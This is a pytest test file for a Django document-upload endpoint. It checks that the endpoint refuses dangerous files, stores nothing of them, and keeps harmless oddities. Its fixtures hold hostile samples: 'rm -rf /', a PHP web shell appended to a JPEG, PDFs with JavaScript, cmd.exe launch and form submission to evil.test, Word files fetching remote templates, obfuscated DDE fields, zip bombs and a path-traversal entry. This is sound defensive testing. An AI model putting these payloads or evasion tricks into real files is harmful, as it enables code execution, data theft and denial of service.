"""POST /customers/:id/documents: files that are refused, why, and that nothing of them stays."""

import base64
import struct
import tempfile
import time
import zipfile
import zlib

import pytest
from django.utils import translation
from django.utils.translation import gettext

from config.testing import data_of, error_of, make_customer, nothing_changes
from documents.models import Document
from documents.tests.files import CALLED, body_of, form, object_stream, office, part, pdf, picture, send, stored

UNKNOWN = "Only PDF, JPEG, PNG, WebP, Word (docx) and Excel (xlsx) files are accepted"
CONTRADICTORY = "The content of the file, the ending of its name and its declared type do not agree"
TWO_THINGS = "The file is more than one kind of file at once"
PDF_ACTIVE = "PDF files with scripts or actions that start programs are not accepted"
PDF_ATTACHED = "PDF files with files attached to them are not accepted"
PDF_OPAQUE = "This PDF file cannot be inspected; print it to a new PDF file and send that"
LOCKED = "Files protected by a password are not accepted"
MACROS = "Files with macros or embedded programs are not accepted"
FETCHING = "Files that fetch parts of themselves from elsewhere are not accepted"
TOO_LARGE = "This file is too large to be inspected; save it as PDF and send that"
BOMB = "The file unpacks to far more than its size"
OFFICE_DAMAGED = "The file is damaged or is no Word or Excel file"
OFFICE_OLD = "Office files that are protected by a password, or older than docx and xlsx, are not accepted"
IMAGE_DAMAGED = "The image is damaged"
PIXELS = "The image has more than 40 million pixels"

SCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
ARCHIVE = office("docx")


def png_of_size(width, height):
    """A PNG of a few bytes that claims to be huge."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", zlib.compress(b"\0" * 1000)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data)) for name, data in chunks
    )


def sharing_bytes():
    """An archive whose parts all lie over the same compressed bytes."""
    content = bytearray(office("xlsx", *((f"xl/{i}.xml", "") for i in range(20))))
    start = content.index(b"PK\1\2")
    while start >= 0:
        content[start + 42 : start + 46] = struct.pack("<I", 0)
        start = content.find(b"PK\1\2", start + 1)
    return bytes(content)


def locked_archive():
    content = bytearray(ARCHIVE)
    start = content.index(b"PK\1\2")
    content[start + 8] |= 1
    return bytes(content)


def crowded_archive():
    return office("xlsx", *((f"xl/{i}.xml", "") for i in range(6_000)))


MACRO_TYPES = (
    '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    '<Default ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
EXTERNAL = 'TargetMode="External"'
LONG_TEXT = office("docx", ("word/a.xml", "<a>" + "<b/>" * 1_600_000 + "</a>"), method=zipfile.ZIP_STORED)
LONG_TAG = office("docx", ("word/a.xml", "<a " + " ".join(f'a{n}="x"' for n in range(99_000)) + "/>"))
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def related(kind, mode, encoding="utf-8", part="word/_rels/settings.xml.rels"):
    """A Word file with one relation to something elsewhere."""
    relation = f'<R xmlns="r"><Relationship Id="r1" Type="{kind}" Target="https://evil.test/a" {mode}/></R>'
    return office("docx", (part, f'<?xml version="1.0" encoding="{encoding}"?>{relation}'.encode(encoding)))


def field(content):
    """A Word file with one field in a header."""
    begin = '<w:fldChar w:fldCharType="begin"/>'
    return office("docx", ("word/header1.xml", f'<w:hdr xmlns:w="w"><w:r>{begin}{content}</w:r></w:hdr>'))


def types_of(kind, *more):
    types = "".join(f'<Override ContentType="{name}"/>' for name in (f"{CALLED[kind]}.main+xml", *more))
    return f"<Types>{types}</Types>"


TEMPLATE = '<Relationship Type="x/attachedTemplate" Target="https://evil.test/a.dotm" TargetMode="External"/>'

FILES = {
    # What is not among the six kinds, whatever it is called
    "html": (b"<html><script>1</script>", "a.html", "text/html", UNKNOWN),
    "html called pdf": (b"<!doctype html><script>1</script>", "a.pdf", None, UNKNOWN),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "a.svg", "image/svg+xml", UNKNOWN),
    "svg called png": (b'<?xml version="1.0"?><svg onload="alert(1)"/>', "a.png", None, UNKNOWN),
    "a script": (b"#!/bin/sh\nrm -rf /", "a.sh", "application/x-sh", UNKNOWN),
    "a program": (b"MZ\x90\0" + b"\0" * 100, "a.pdf", None, UNKNOWN),
    "a gif": (b"GIF89a" + b"\0" * 50, "a.gif", "image/gif", UNKNOWN),
    "a text": ("نص".encode(), "a.docx", None, UNKNOWN),
    "an older office file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.docx", None, OFFICE_OLD),
    # Content, name and declared type that disagree
    "pdf called png": (pdf(), "a.png", "application/pdf", CONTRADICTORY),
    "pdf declared png": (pdf(), "a.pdf", "image/png", CONTRADICTORY),
    "pdf declared html": (pdf(), "a.pdf", "text/html", CONTRADICTORY),
    "pdf called html": (pdf(), "a.pdf.html", None, CONTRADICTORY),
    "pdf without an ending": (pdf(), "pdf", "application/pdf", CONTRADICTORY),
    "jpeg called png": (picture(), "a.png", None, CONTRADICTORY),
    "xlsx called docx": (office("xlsx"), "a.docx", None, CONTRADICTORY),
    "docx called docm": (ARCHIVE, "a.docm", None, CONTRADICTORY),
    # PDFs
    "a pdf with a script": (pdf(SCRIPT), "a.pdf", None, PDF_ACTIVE),
    "a pdf with a script in disguise": (
        pdf(SCRIPT.replace(b"/JavaScript", b"/J#61va#53cript")), "a.pdf", None, PDF_ACTIVE
    ),
    "a pdf with a script in an object stream": (pdf(object_stream(b"1 0 " + SCRIPT)), "a.pdf", None, PDF_ACTIVE),
    "a pdf that starts a program": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), "a.pdf", None, PDF_ACTIVE),
    "a pdf with a form of scripts": (pdf(b"<< /XFA [(x) 1 0 R] >>"), "a.pdf", None, PDF_ACTIVE),
    "a pdf with an attachment": (pdf(b"<< /Names << /EmbeddedFiles 9 0 R >> >>"), "a.pdf", None, PDF_ATTACHED),
    "a pdf with an attachment that nothing lists": (
        pdf(b"<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>"), "a.pdf", None, PDF_ATTACHED
    ),
    "a pdf with an attachment behind a comment": (pdf(b"<< /E#46 %x\n9 0 R >>"), "a.pdf", None, PDF_ATTACHED),
    "a pdf with a pinned file": (pdf(b"<< /Subtype /FileAttachment /FS 9 0 R >>"), "a.pdf", None, PDF_ATTACHED),
    "a pdf with associated files": (pdf(b"<< /AF [9 0 R] >>"), "a.pdf", None, PDF_ATTACHED),
    "a pdf that opens another": (pdf(b"<< /S /GoToE /T << /R /C >> >>"), "a.pdf", None, PDF_ACTIVE),
    "a pdf that reads a file": (pdf(b"<< /S /ImportData /F (a.fdf) >>"), "a.pdf", None, PDF_ACTIVE),
    "a pdf that sends what is typed": (pdf(b"<< /S /SubmitForm /F (https://evil.test) >>"), "a.pdf", None, PDF_ACTIVE),
    "a pdf with a form of scripts behind a comment": (pdf(b"<< /XFA%\n[(x) 1 0 R] >>"), "a.pdf", None, PDF_ACTIVE),
    "a pdf with objects under another name": (
        pdf(object_stream(b"1 0 " + SCRIPT).replace(b"/ObjStm", b"/Nothing")), "a.pdf", None, PDF_ACTIVE
    ),
    "a pdf with objects behind a stream that is none": (
        pdf(b"<< /Filter /FlateDecode /X (stream\n) " + object_stream(SCRIPT, b"")[16:]), "a.pdf", None, PDF_OPAQUE
    ),
    "a locked pdf": (pdf(b"<< /Encrypt 9 0 R >>"), "a.pdf", None, LOCKED),
    "a pdf with objects in a code of their own": (
        pdf(object_stream(b"1 0 " + SCRIPT, b"/Filter /ASCIIHexDecode", base64.b16encode)), "a.pdf", None, PDF_OPAQUE
    ),
    "a pdf with objects in two codes": (
        pdf(object_stream(SCRIPT, b"/Filter [/AHx /Fl]", base64.b16encode)), "a.pdf", None, PDF_OPAQUE
    ),
    "a pdf whose code stands elsewhere": (pdf(object_stream(SCRIPT, b"/Filter 9 0 R")), "a.pdf", None, PDF_OPAQUE),
    "a pdf with a dictionary in disguise": (
        pdf(b"<< /Type /ObjStm /X (1 0 obj) /Filter /AHx >>\nstream\n00\nendstream"), "a.pdf", None, PDF_OPAQUE
    ),
    "a pdf with broken objects": (pdf(object_stream(b"x", compress=lambda x: b"no zlib")), "a.pdf", None, PDF_OPAQUE),
    "a pdf with a bomb of objects": (pdf(object_stream(b"\0" * 60_000_000)), "a.pdf", None, PDF_OPAQUE),
    "a pdf that breaks off": (pdf()[:-20], "a.pdf", None, "The PDF file is not complete"),
    "a pdf and a program": (pdf() + b"MZ\x90\0", "a.pdf", None, "The PDF file is not complete"),
    # Two things at once
    "a pdf and a page": (pdf(b"<< /X (<SCRIPT>alert(1)</SCRIPT>) >>"), "a.pdf", None, TWO_THINGS),
    "a pdf and an archive": (pdf(b"<< /X (" + ARCHIVE + b") >>"), "a.pdf", None, TWO_THINGS),
    "a photo and an archive": (picture() + ARCHIVE, "a.jpg", None, TWO_THINGS),
    "a photo and a page": (picture(comment=b"<html><body>"), "a.jpg", None, TWO_THINGS),
    "a photo and a php script": (picture() + b"<?php system($_GET[0]);", "a.jpg", None, TWO_THINGS),
    "a photo and a pdf": (picture(comment=b"%PDF-1.7"), "a.jpg", None, TWO_THINGS),
    # Pictures
    "a picture of a billion pixels": (png_of_size(50_000, 50_000), "a.png", None, PIXELS),
    "a picture of 41 million pixels": (png_of_size(41_000, 1_000), "a.png", None, PIXELS),
    "a broken photo": (picture()[:300], "a.jpg", None, IMAGE_DAMAGED),
    "a broken png": (png_of_size(100, 100), "a.png", None, IMAGE_DAMAGED),
    "only the beginning of a photo": (b"\xff\xd8\xff\xe0", "a.jpg", None, IMAGE_DAMAGED),
    "a webp of nothing": (b"RIFF\x04\0\0\0WEBP", "a.webp", None, IMAGE_DAMAGED),
    # Office
    "macros": (office("docx", ("word/vbaProject.bin", b"x")), "a.docx", None, MACROS),
    "macros in capitals": (office("xlsx", ("xl/VBAPROJECT.BIN", b"x")), "a.xlsx", None, MACROS),
    "an excel 4 macro": (office("xlsx", ("xl/macrosheets/sheet1.xml", "<x/>")), "a.xlsx", None, MACROS),
    "an embedded program": (office("docx", ("word/embeddings/oleObject1.bin", b"x")), "a.docx", None, MACROS),
    "a docm called docx": (office("docx", types=MACRO_TYPES), "a.docx", None, MACROS),
    "a template from elsewhere": (office("docx", ("word/_rels/settings.xml.rels", TEMPLATE)), "a.docx", None, FETCHING),
    "a template from elsewhere in other letters": (
        related("x/attached&#84;emplate", 'TargetMode="&#69;xternal"'), "a.docx", None, FETCHING
    ),
    "a template from elsewhere in UTF-16": (
        related("x/attachedTemplate", EXTERNAL, "utf-16"), "a.docx", None, FETCHING
    ),
    "a template from elsewhere of another part": (
        related("x/attachedTemplate", EXTERNAL, part="word/_rels/document.xml.rels"), "a.docx", None, FETCHING
    ),
    "a program from elsewhere": (related("x/oleObject", EXTERNAL), "a.docx", None, FETCHING),
    "a picture from elsewhere": (related("x/image", EXTERNAL), "a.docx", None, FETCHING),
    "a picture from elsewhere that does not say so": (related("x/image", ""), "a.docx", None, FETCHING),
    "a hyperlink by a name alike": (related("x/hyperlink", EXTERNAL), "a.docx", None, FETCHING),
    "a relation that is declared": (
        office("docx", ("word/_rels/x.rels", '<!DOCTYPE r [<!ENTITY t "x">]><r Type="&t;"/>')),
        "a.docx", None, OFFICE_DAMAGED,
    ),
    "a relation in a list with an escape in its name": (
        related("x/image", EXTERNAL, part="word/_rels/a.r%65ls"), "a.docx", None, FETCHING
    ),
    "a link to another program": (
        office("xlsx", ("xl/_rels/workbook.xml.rels", '<R Type="x/externalLink" Target="e.xml"/>')),
        "a.xlsx", None, FETCHING,
    ),
    "a part in another format": (
        office("docx", ("word/_rels/a.rels", '<R Type="x/aFChunk" Target="a.rtf"/>')), "a.docx", None, MACROS
    ),
    "macros under another name": (
        office("docx", ("word/pages.bin", b"x"), types=types_of("docx", "application/vnd.ms-office.vbaProject")),
        "a.docx", None, MACROS,
    ),
    "macros under another name and type": (
        office("docx", ("word/pages.bin", b"\xd0\xcf\x11\xe0\xa1\xb1")), "a.docx", None, MACROS
    ),
    "a program under another name": (office("xlsx", ("xl/embeddings/a.xml", b"MZ\x90\0")), "a.xlsx", None, MACROS),
    "an older file in one": (office("docx", ("word/embeddings/a.doc", b"\xd0\xcf\x11\xe0")), "a.docx", None, MACROS),
    "a workbook with macros in a file": (
        office("docx", ("word/embeddings/a.xlsx", office("xlsx", ("xl/vbaProject.bin", b"x")))), "a.docx", None, MACROS
    ),
    "a workbook in a workbook in a file": (
        office("docx", ("word/embeddings/a.xlsx", office("xlsx", ("xl/a.xlsx", office("xlsx"))))),
        "a.docx", None, MACROS,
    ),
    "a field that starts a program": (field("<w:instrText>DDEAUTO c:\\x</w:instrText>"), "a.docx", None, MACROS),
    "a field in pieces": (
        field("<w:instrText> D</w:instrText></w:r><w:r><w:instrText>&#68;E c:\\x</w:instrText>"), "a.docx", None, MACROS
    ),
    "a field in numbers": (
        field("<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>"), "a.docx", None, MACROS
    ),
    "a field of one word": (
        office("docx", ("word/footer1.xml", '<w:p><w:fldSimple w:instr=" dde x"/></w:p>')), "a.docx", None, MACROS
    ),
    "a text too long to read": (LONG_TEXT, "a.docx", None, TOO_LARGE),
    "a text with a tag too long to read": (LONG_TAG, "a.docx", None, TOO_LARGE),
    "a locked archive": (locked_archive(), "a.docx", None, LOCKED),
    "a zip bomb": (office("xlsx", ("xl/sheet.xml", b"0" * 30_000_000)), "a.xlsx", None, BOMB),
    "a zip bomb of shared bytes": (sharing_bytes(), "a.xlsx", None, BOMB),
    "an archive of 6,000 parts": (crowded_archive(), "a.xlsx", None, BOMB),
    "any other archive": (office("docx", types="<Types/>"), "a.docx", None, OFFICE_DAMAGED),
    "a docx without its text": (office("docx", main=False), "a.docx", None, OFFICE_DAMAGED),
    "an archive that climbs": (office("docx", ("../../etc/passwd", "x")), "a.docx", None, OFFICE_DAMAGED),
    "an archive in a code of its own": (office("docx", method=zipfile.ZIP_BZIP2), "a.docx", None, OFFICE_DAMAGED),
    "an archive behind something": (ARCHIVE[:4] + ARCHIVE, "a.docx", None, OFFICE_DAMAGED),
    "an archive before something": (ARCHIVE + b"x", "a.docx", None, OFFICE_DAMAGED),
    "half an archive": (ARCHIVE[:100], "a.docx", None, OFFICE_DAMAGED),
}  # fmt: skip


SLOW = {
    "escapes before streams": (b"obj " + b"#4a" * 5_000 + b"stream\n" * 2_300) * 5,
    "nothing but streams": b"stream\n" * 2_700_000,
    "nothing but objects": b"obj" * 6_000_000,
    "nothing but names": b"/" * 20_000_000,
    "nothing but escapes": b"/#4a" * 4_900_000,
    "dictionaries without end": (b"obj /First " + b"/a" * 16_000 + b"stream\n") * 600,
    "object streams without end": (b"obj " + object_stream(b"1 0") + b"\n") * 200_000,
    "much in little": b"obj " + object_stream(b"/" * 24_000_000),
}


@pytest.fixture
def customer(ahmed):
    return make_customer(ahmed)


@pytest.fixture
def temporary(tmp_path, monkeypatch):
    """The folder of temporary files, empty."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return tmp_path


@pytest.mark.parametrize("case", FILES)
def test_it_is_refused_and_nothing_of_it_stays(as_, ahmed, customer, temporary, case):
    content, name, declared, message = FILES[case]
    with nothing_changes():
        response = send(as_(ahmed), customer, form(content, name, declared or CALLED.get(name[-4:].lstrip("."))))
        assert error_of(response, 400, "VALIDATION_ERROR")["details"] == [{"field": "file", "message": message}]
    assert (Document.objects.count(), stored(), list(temporary.iterdir())) == (0, {}, [])


def test_the_reason_comes_in_the_language_of_the_caller(as_, ahmed, customer):
    body = form(b"<html>", "a.pdf")
    error = error_of(send(as_(ahmed, language="ar"), customer, body), 400)
    with translation.override("ar"):
        assert error["details"] == [{"field": "file", "message": gettext(UNKNOWN)}]


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (pdf(object_stream(b"1 0 << /Type /Font >>")), "objects in a stream.pdf"),
        (pdf(object_stream(b"1 0 << /Type /Font >>", b"", bytes)), "objects in a plain stream.pdf"),
        (pdf(b"<< /S /URI /URI (https://example.com) >>"), "a link.pdf"),
        (pdf() + b"\r\n\0", "an end of its own.pdf"),
        (pdf(b"<< /First 4 0 R /Last 9 0 R >>", b"<< >>\nstream\n/EF /AF q Q /XFA\nendstream"), "short names.pdf"),
        (office("xlsx", ("xl/sheet.xml", b"<c/>" * 200_000)), "a large table.xlsx"),
        (office("docx", ("word/_rels/settings.xml.rels", "<Relationship/>")), "settings.docx"),
        (related(HYPERLINK, EXTERNAL), "a hyperlink.docx"),
        (office("docx", ("word/embeddings/a.xlsx", office("xlsx"))), "a chart.docx"),
        (field("<w:instrText> HYPERLINK &quot;https://x.test/dde/&quot;</w:instrText>"), "a field.docx"),
        (office("xlsx", ("xl/printerSettings/printerSettings1.bin", b"x")), "a printer.xlsx"),
    ],
)
def test_what_looks_odd_but_is_harmless_is_kept(as_, ahmed, customer, temporary, content, name):
    data_of(send(as_(ahmed), customer, form(content, name)), 201)
    assert list(stored().values()) == [content]
    assert list(temporary.iterdir()) == []


@pytest.mark.parametrize("case", SLOW)
def test_no_pdf_holds_a_processor_for_long(as_, ahmed, customer, case):
    began = time.process_time()
    response = send(as_(ahmed), customer, form(b"%PDF-1.4\n" + SLOW[case] + b"\n%%EOF\n", "a.pdf"))
    assert time.process_time() - began < 20
    assert response.status_code in (201, 400)


def test_a_keyword_between_two_windows_is_seen(as_, ahmed, customer):
    for shift in (0, 3, 9):
        head = pdf(size=1_048_576 - 20 + shift)[:-30]
        content = head + b"\n9 0 obj " + SCRIPT + b" endobj\n" + pdf()[-30:]
        error = error_of(send(as_(ahmed), customer, form(content, "a.pdf")), 400)
        assert error["details"] == [{"field": "file", "message": PDF_ACTIVE}]


def test_one_file_of_a_kind_in_a_form_of_another_encoding_is_the_same_file(as_, ahmed, customer):
    encoded = part("file", base64.b64encode(pdf()), file_name="a.pdf").replace(
        b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n", 1
    )
    data_of(send(as_(ahmed), customer, body_of(encoded)), 201)
    assert list(stored().values()) == [pdf()]
